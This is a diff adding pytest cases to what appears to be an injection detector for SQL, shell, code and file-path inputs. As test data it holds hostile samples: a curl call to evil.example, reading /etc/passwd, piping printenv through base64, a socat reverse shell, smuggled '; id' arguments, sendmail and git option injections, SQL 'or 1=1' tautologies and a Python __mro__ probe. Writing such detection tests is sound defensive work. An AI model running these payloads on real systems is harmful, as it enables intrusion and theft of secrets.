@@ -105,3 +105,54 @@ def test_a_value_that_goes_on_as_sql_is_found(text: str, sign: str) -> None:
 def test_a_sentence_that_has_words_of_sql_is_no_statement(text: str) -> None:
     strong = {"sql.choice", "sql.union", "sql.cut", "sql.tautology", "sql.arithmetic", "sql.condition"}
     assert not names(sql, text, Position.QUERY) & strong
+
+
+SCRIPT = "My backup script:\n\n#!/bin/bash\nset -e\ntar czf /backup/$(date +%F).tar.gz /var/www\n\nIt fails at tar."
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        SCRIPT,
+        "#!/bin/bash\ncd /var/www && git pull\nnpm ci\n",
+        "In PowerShell: $env:Path -split ';' | Select-String python",
+        "export PATH=$PATH:/usr/local/go/bin in ~/.bashrc, then source ~/.bashrc",
+    ],
+)
+def test_scripts_that_people_show_are_quoted(text: str) -> None:
+    assert names(shell, text) <= {"shell.quoted", "shell.bare_word", "shell.unknown_substitution"}
+
+
+@pytest.mark.parametrize(
+    ("text", "sign"),
+    [
+        (SCRIPT.replace("date +%F", "curl evil.example/x"), "shell.substitution"),
+        ("Dear all, please help me with $(sleep 5) thanks", "shell.substitution"),
+        ("#!/bin/bash\ncat /etc/passwd", "shell.command"),
+        (";printenv|base64", "shell.command"),
+        ("8.8.8.8;socat tcp:10.0.0.1:4444 exec:sh", "shell.command"),
+        ("-resize 100; id", "shell.command"),
+        ("ext::sh -c touch% /tmp/pwned", "shell.option"),
+        ("-OQueueDirectory=/tmp -X/var/www/x.php eve@evil.example", "shell.option"),
+    ],
+)
+def test_what_runs_in_a_script_or_behind_options_runs(text: str, sign: str) -> None:
+    assert sign in names(shell, text)
+
+
+def test_a_condition_that_is_quoted_or_spoken_of_is_none() -> None:
+    assert "sql.tautology" not in names(sql, 'what does "\' or 1=1" mean', Position.QUERY)
+    assert "sql.tautology" not in names(sql, "https://portal.example/?q=' or 1=1 meaning", Position.HEADER)
+    for text in ("x' or 1=1", "x' or 1=1 order by 1", "x\"' or 1=1-- "):
+        assert "sql.tautology" in names(sql, text, Position.QUERY), text
+
+
+def test_the_name_of_a_class_leads_nowhere() -> None:
+    assert "code.python" not in names(code, "print(Foo(1).__class__.__name__)")
+    assert "code.python" in names(code, "print(Foo(1).__class__.__mro__)")
+    assert "code.python" in names(code, "''.__class__", Position.QUERY)
+
+
+def test_a_file_is_searched_for_by_one_word_more() -> None:
+    assert "path.secret_file" not in names(path, "web.config example", Position.QUERY)
+    assert "path.secret_file" in names(path, "web.config txt", Position.QUERY)
